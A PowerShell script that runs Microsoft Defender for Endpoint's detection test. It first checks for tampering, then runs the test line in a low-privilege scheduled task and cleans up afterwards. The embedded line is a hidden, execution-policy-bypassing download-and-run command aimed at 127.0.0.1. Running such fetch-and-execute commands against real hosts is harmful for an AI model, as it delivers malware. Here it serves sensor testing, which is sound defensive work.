<#
.SYNOPSIS
Runs Microsoft's detection test: a harmless command line that the sensor reports as an alert.
.DESCRIPTION
The command line itself is what the sensor looks for, so it is the documented one to the byte, run by cmd.exe. It means to
download nothing: both of its steps fail where no web server answers at 127.0.0.1. Any user of the server may prepare one,
or the file that the line starts, so both are looked for first, and the line runs in a task of its own as LocalService
without privileges: what somebody puts there after our look gains nothing. Its exit code means nothing. It leaves a hidden
powershell.exe behind; that one is ended after a minute.
#>
[CmdletBinding()]
param()
Set-StrictMode -Version 2.0
$ErrorActionPreference = 'Stop'
. (Join-Path $PSScriptRoot 'Change.ps1')
. (Join-Path $PSScriptRoot 'CloudWire.ps1')

$line = @'
powershell.exe -NoExit -ExecutionPolicy Bypass -WindowStyle Hidden $ErrorActionPreference = 'silentlycontinue';(New-Object System.Net.WebClient).DownloadFile('http://127.0.0.1/1.exe', 'C:\\test-MDATP-test\\invoice.exe');Start-Process 'C:\\test-MDATP-test\\invoice.exe'
'@.Trim()
$folder = 'C:\test-MDATP-test'
$localService = 'S-1-5-19'
# SYSTEM, Administrators, TrustedInstaller.
$windowsOwn = @('SY', 'BA', 'S-1-5-80-956008885-3418522649-1831038044-1853292631-2271478464')
$task = @{ TaskPath = '\Gangway\'; TaskName = 'DetectionTest' }

function Assert-NothingPrepared {
    # What the line would start: nothing may lie there, and nobody else may own the folder in which it could.
    if (Test-Path -LiteralPath $folder) {
        $item = Get-Item -LiteralPath $folder -Force
        $isLink = ([int]$item.Attributes -band [int][System.IO.FileAttributes]::ReparsePoint) -ne 0
        if (-not $item.PSIsContainer -or $isLink) { throw (New-Failure 'test.prepared' "$folder is a link or a file") }
        $owner = ([string](Get-Acl -LiteralPath $folder).Sddl -replace '^O:', '') -replace 'G:.*$', ''
        if ($windowsOwn -cnotcontains $owner) { throw (New-Failure 'test.prepared' "$folder belongs to $owner") }
        if (Test-Path -LiteralPath "$folder\invoice.exe") { throw (New-Failure 'test.prepared' "$folder\invoice.exe is there already") }
    }
    $status = Get-LocalAnswer
    if ($status -ne '' -and $status -notmatch '^[145]') { throw (New-Failure 'test.prepared' "http://127.0.0.1/1.exe answered $status") }
}

# The status with which a web server of this computer answers for the file; 'nothing yet' where it only takes the call, because
# it may still give the file; empty where nobody answers, as it should be, or not as a web server does.
function Get-LocalAnswer {
    $client = New-Object System.Net.Sockets.TcpClient
    try {
        try { if (-not (Connect-Address $client '127.0.0.1' 80 5)) { return '' } }
        catch { return '' }
        $stream = $client.GetStream()
        $stream.ReadTimeout = 5000
        try { $status = Get-Status $stream "GET /1.exe HTTP/1.1`r`nHost: 127.0.0.1`r`nConnection: Keep-Alive`r`n`r`n" }
        catch { return 'nothing yet' }
        [string]$status
    }
    finally { $client.Close() }
}

function Start-Line {
    $action = New-ScheduledTaskAction -Execute (Join-Path $env:SystemRoot 'System32\cmd.exe') -Argument "/d /c $line" -ErrorAction Stop
    # The one privilege that everybody has: LocalService alone could take the place of others who call it.
    $principal = New-ScheduledTaskPrincipal -UserId $localService -LogonType ServiceAccount -RunLevel Limited -RequiredPrivilege 'SeChangeNotifyPrivilege' -ErrorAction Stop
    $settings = New-ScheduledTaskSettingsSet -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries -ExecutionTimeLimit ([TimeSpan]::FromMinutes(3)) -MultipleInstances IgnoreNew -ErrorAction Stop
    # One that a killed runner left is replaced.
    $null = Register-ScheduledTask @task -Action $action -Principal $principal -Settings $settings -Force -ErrorAction Stop
    Start-ScheduledTask @task -ErrorAction Stop
}

# cmd.exe and powershell.exe of the line: by their words, begun since it was sent, and LocalService's.
function Get-LineProcess([datetime]$Since) {
    $words = $line.Substring('powershell.exe '.Length)
    foreach ($process in @(Get-CimInstance -ClassName Win32_Process -Filter "Name='powershell.exe' OR Name='cmd.exe'")) {
        if ($process.CreationDate -lt $Since -or -not ([string]$process.CommandLine).TrimEnd().EndsWith($words, [System.StringComparison]::Ordinal)) { continue }
        if ([string]($process | Invoke-CimMethod -MethodName 'GetOwnerSid').Sid -eq $localService) { $process }
    }
}

Write-Step 'checkTest' 'begin'
Assert-NothingPrepared
Write-Step 'checkTest' 'done'

Write-Step 'sendTest' 'begin'
$since = Get-Date
$sent = [long][math]::Floor(($since.ToUniversalTime() - [datetime]'1970-01-01T00:00:00').TotalMilliseconds)
try {
    Start-Line
    Write-Step 'sendTest' 'done'

    Write-Step 'endTest' 'begin'
    $state = 'Running'
    for ($second = 0; $second -lt 60 -and $state -eq 'Running'; $second++) {
        if ($second % 10 -eq 9) { [pscustomobject]@{ Kind = 'progress'; Done = $second + 1; Total = 60 } }
        Start-Sleep -Seconds 1
        $found = Get-ScheduledTask @task -ErrorAction Stop
        $result = [long]($found | Get-ScheduledTaskInfo -ErrorAction Stop).LastTaskResult
        # 0x41303: it has not begun, although the start was taken.
        if ($result -ne 0x41303) { $state = [string]$found.State }
    }
    if ($result -eq 0x41303) { throw (New-Failure 'operation.failed' 'the Task Scheduler did not begin the test within a minute' $result) }
    if ($state -eq 'Running') {
        # It may end in this very moment; what is left of it is looked for either way.
        try { Stop-ScheduledTask @task -ErrorAction Stop } catch { Write-Line 'cmd' 'info' ([string]$_.Exception.Message) }
        foreach ($process in @(Get-LineProcess $since.AddSeconds(-2))) { Stop-Process -Id ([int]$process.ProcessId) -Force -ErrorAction SilentlyContinue }
        Write-Step 'endTest' 'done'
    }
    else {
        # Often an antivirus that stopped the line: the sensor has seen it all the same.
        Write-Line 'cmd' 'info' "cmd.exe ended by itself with $result"
        Write-Step 'endTest' 'skipped'
    }
}
finally { Unregister-ScheduledTask @task -Confirm:$false -ErrorAction SilentlyContinue }
Write-Result @{ sentAt = $sent }
